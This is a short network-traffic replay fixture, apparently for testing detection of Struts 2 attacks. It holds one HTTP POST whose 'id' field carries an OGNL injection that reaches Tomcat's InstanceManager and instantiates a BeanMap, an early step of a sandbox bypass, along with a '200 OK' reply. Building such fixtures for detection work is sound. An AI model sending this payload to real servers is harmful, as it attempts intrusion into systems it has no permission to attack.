# Struts 2, OGNL bean map in the body.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /index.action HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/x-www-form-urlencoded\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 124\r\n
\r\n
id=%{(#im=#application["org.apache.tomcat.InstanceManager"]).(#b=#im.newInstance("org.apache.commons.collections.BeanMap"))}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
